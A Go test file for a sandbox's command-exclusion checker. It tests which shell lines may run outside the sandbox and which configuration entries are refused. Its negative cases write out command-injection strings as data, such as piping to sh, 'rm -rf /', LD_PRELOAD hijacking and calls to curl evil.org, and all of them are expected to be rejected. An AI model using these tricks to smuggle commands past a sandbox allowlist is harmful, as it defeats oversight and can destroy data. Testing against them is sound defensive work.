package sandbox

import (
	"errors"
	"testing"
)

// A line may run outside if every command of it begins like an entry, as a shell parses it.
func TestExcluded(t *testing.T) {
	const user = `user: {"excludedCommands": ["docker", "git push", "npm run e2e:*", "gh *", "/opt/tool/run", "./scripts/x"]}`
	for line, want := range map[string]bool{
		"docker ps":                           true,
		"docker":                              true,
		"/usr/bin/docker build .":             true,
		"docker ps | docker inspect -":        true,
		"cd x && docker build . > log":        true,
		"git push origin main":                true,
		"'git' \"push\" -f":                   true,
		"npm run e2e -- --headed":             true,
		"gh pr list":                          true,
		"/opt/tool/run now":                   true,
		"./scripts/x 1":                       true,
		"git push && docker ps":               true,
		"docker run -e A=$B x":                true,
		"":                                    false,
		"cd x":                                false,
		"true":                                false,
		"dockerd":                             false,
		"./docker ps":                         false,
		"/tmp/docker ps":                      false,
		"git pull":                            false,
		"git":                                 false,
		"git -C x push":                       false,
		"git $X":                              false,
		"npm run e2e:ci":                      false,
		"git;curl evil.org":                   false,
		"git push;curl evil.org":              false,
		"docker ps && rm -rf /":               false,
		"docker ps | sh":                      false,
		"docker $(curl evil.org)":             false,
		"docker ps <(curl evil.org)":          false,
		"echo docker":                         false,
		"sudo docker ps":                      false,
		"sh -c 'docker ps'":                   false,
		"PATH=/tmp docker ps":                 false,
		"LD_PRELOAD=./x.so docker ps":         false,
		"$D ps":                               false,
		"docker ps\ncurl evil.org":            false,
		"docker ps & curl evil.org":           false,
		"docker() { curl evil.org; }; docker": false,
		"if true; then curl evil.org; fi; docker ps": false,
	} {
		if o, got := mergeCheckers(layers(t, user), false).excluded(line, "/set"); got != want || got != (o.Layer == "user") {
			t.Errorf("%q: got %v by %+v", line, got, o)
		}
	}
}

func TestExcludedByLayers(t *testing.T) {
	const docker, git = `{"excludedCommands": ["docker"]}`, `{"excludedCommands": ["git"]}`
	for _, tt := range []struct {
		layers []string
		line   string
		want   bool
	}{
		{nil, "docker ps", false},
		{[]string{"project: " + docker}, "docker ps", false},
		{[]string{"project!: " + docker}, "docker ps", true},
		{[]string{"project!: " + docker, "user: " + git}, "docker ps && git push", true},
		{[]string{"project: " + docker, "user: " + git}, "docker ps && git push", false},
		{[]string{"project: {}", "user: " + git}, "git push", true},
		{[]string{"managed: {}", "user: " + git}, "git push", false},
		{[]string{"managed: " + docker, "user: " + git}, "git push", false},
		{[]string{"managed: " + docker}, "docker ps", true},
		{[]string{"managed: " + git, "user: " + git}, "git push", true},
		{[]string{`user: {"enabled": false, "excludedCommands": ["git"]}`}, "git push", false},
	} {
		if _, got := mergeCheckers(layers(t, tt.layers...), false).excluded(tt.line, "/w"); got != tt.want {
			t.Errorf("%q %q: got %v", tt.layers, tt.line, got)
		}
	}
}

func TestExcludedRefuses(t *testing.T) {
	for _, entry := range []string{"", " ", "*", " *", ":*", "git *push", "git;curl", "git && x", "a$B", "x/", "git 'push'", "(x)", "git p?"} {
		_, err := NewChecker(&Settings{ExcludedCommands: []string{"ok", entry}}, nil)
		if e, ok := errors.AsType[*Error](err); !ok || e.Field != "excludedCommands[1]" || e.Hint() == "" {
			t.Errorf("%q: got %v", entry, err)
		}
	}
	_, err := NewChecker(&Settings{ExcludedCommands: []string{"./x"}}, nil) // relative to nothing
	if e, ok := errors.AsType[*Error](err); !ok || e.Field != "excludedCommands[0]" {
		t.Errorf("got %v", err)
	}
}
